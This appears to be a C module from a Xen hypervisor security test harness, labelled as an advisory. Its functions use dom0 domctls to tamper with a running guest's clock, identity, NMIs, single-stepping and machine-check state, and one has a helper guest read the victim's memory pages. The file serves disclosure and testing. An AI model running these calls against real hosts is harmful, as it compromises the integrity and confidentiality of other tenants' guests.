/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: the rest of what a toolstack may ask for a guest
 *
 * Claim:  dom0 changes a running guest's time, identity and machine-check
 *         state, raises its NMI, takes its single steps from it, and makes
 *         another guest its master.
 * Method: domctls, on the running guest.
 * Stock:  nothing asks whether the guest runs already.
 */
#include <stdio.h>
#include <string.h>

#include "../attack.h"

static enum verdict settscinfo(struct victim *v)
{
    struct xen_domctl op = {
        .u.tsc_info = {.tsc_mode = 1, .elapsed_nsec = 1ull << 50},
    };
    long rc = domctl(v->id, XEN_DOMCTL_settscinfo, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "TSC");
}
ATTACK(settscinfo, .needs = SHARED);

static enum verdict settimeoffset(struct victim *v)
{
    struct xen_domctl op = {.u.settimeoffset.time_offset_seconds = 86400};
    long rc = domctl(v->id, XEN_DOMCTL_settimeoffset, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "WALLCLOCK");
}
ATTACK(settimeoffset, .needs = SHARED);

static enum verdict setdomainhandle(struct victim *v)
{
    static const uint8_t want[16] = "another's name.";
    struct xen_domctl op = {0};
    xc_domaininfo_t info;
    long rc;

    memcpy(op.u.setdomainhandle.handle, want, sizeof(want));
    rc = domctl(v->id, XEN_DOMCTL_setdomainhandle, &op);
    if ( rc || xc_domain_getinfo_single(xch, v->id, &info) )
        return verdict(FAILURE, "refused: %ld", rc);
    return verdict(memcmp(info.handle, want, sizeof(want)) ? FAILURE : SUCCESS,
                   "the guest's identity has changed");
}
ATTACK(setdomainhandle, .needs = SHARED);

static enum verdict sendtrigger_nmi(struct victim *v)
{
    struct xen_domctl op = {
        .u.sendtrigger = {.trigger = XEN_DOMCTL_SENDTRIGGER_NMI, .vcpu = 0},
    };
    long rc = domctl(v->id, XEN_DOMCTL_sendtrigger, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "VECTOR 2");
}
ATTACK(sendtrigger_nmi, .needs = SHARED);

/* Before the guest runs: it comes first, and there is nobody to take it. */
static enum verdict sendtrigger_nmi_early(struct victim *v)
{
    struct xen_domctl op = {
        .u.sendtrigger = {.trigger = XEN_DOMCTL_SENDTRIGGER_NMI, .vcpu = 0},
    };

    if ( domctl(v->id, XEN_DOMCTL_sendtrigger, &op) )
        return verdict(FAILURE, "refused");
    return victim_starts_dead(v);
}
ATTACK(sendtrigger_nmi_early, .needs = BUILT);

/*
 * The victim steps one instruction in each round: with a debugger, who it is
 * taken from need not be there.
 */
static enum verdict setdebugging(struct victim *v)
{
    struct xen_domctl op = {.u.setdebugging.enable = 1};
    long rc = domctl(v->id, XEN_DOMCTL_setdebugging, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "STEP");
}
ATTACK(setdebugging, .needs = SHARED);

static enum verdict debug_op(struct victim *v)
{
    struct xen_domctl op = {
        .u.debug_op = {.op = XEN_DOMCTL_DEBUG_OP_SINGLE_STEP_ON},
    };
    long rc = domctl(v->id, XEN_DOMCTL_debug_op, &op);

    if ( rc == -95 ) /* EOPNOTSUPP */
        return verdict(UNPROVEN, "this processor has no monitor trap flag");
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return verdict(SUCCESS, "the guest is in single steps");
}
ATTACK(debug_op, .needs = SHARED);

/* mcg_cap and mci_ctl2: what the guest's machine-check registers say. */
static enum verdict set_ext_vcpucontext(struct victim *v)
{
    struct xen_domctl op = {0};
    uint64_t old;
    long rc;

    if ( domctl(v->id, XEN_DOMCTL_get_ext_vcpucontext, &op) )
        return verdict(FAILURE, "refused");
    old = op.u.ext_vcpucontext.mcg_cap;
    op.u.ext_vcpucontext.mcg_cap = old ^ 3;
    rc = domctl(v->id, XEN_DOMCTL_set_ext_vcpucontext, &op);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    memset(&op.u, 0, sizeof(op.u));
    domctl(v->id, XEN_DOMCTL_get_ext_vcpucontext, &op);
    return verdict(op.u.ext_vcpucontext.mcg_cap == (old ^ 3) ? SUCCESS
                                                             : FAILURE,
                   "MCG_CAP was %#llx, is %#llx", (unsigned long long)old,
                   (unsigned long long)op.u.ext_vcpucontext.mcg_cap);
}
ATTACK(set_ext_vcpucontext, .needs = SHARED);

/*
 * The helper, an ordinary guest of dom0's own, gets the victim for its target,
 * and then maps the victim's pages itself.
 */
static enum verdict set_target(struct victim *v)
{
    struct victim helper;
    struct xen_domctl op = {.u.set_target.target = v->id};
    enum verdict result = FAILURE;
    char extra[32];
    long rc;

    snprintf(extra, sizeof(extra), "foreign=%u", v->id);
    if ( victim_create(&helper, extra) )
        return ERROR;
    rc = domctl(helper.id, XEN_DOMCTL_set_target, &op);
    if ( rc )
        verdict(FAILURE, "refused: %ld", rc);
    else if ( victim_unpause(&helper) )
        verdict(FAILURE, "the helper does not run");
    else if ( victim_says(&helper, "peek 64", 20) )
        result = verdict(SUCCESS, "a helper has read the guest's page");
    else
        verdict(FAILURE, "the helper does not find lines");
    victim_destroy(&helper);
    return result;
}
ATTACK(set_target, .needs = SHARED);

/* While it is suspended: its shared page is replaced, its ports closed. */
static enum verdict soft_reset(struct victim *v)
{
    struct xen_domctl op = {0};
    long rc;

    if ( !victim_suspended(v, 20) )
        return verdict(ERROR, "the guest does not suspend");
    victim_pause(v);
    rc = domctl(v->id, XEN_DOMCTL_soft_reset, &op);
    victim_unpause(v);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "SHARED");
}
ATTACK(soft_reset, .needs = FRESH, .extra = "suspend");
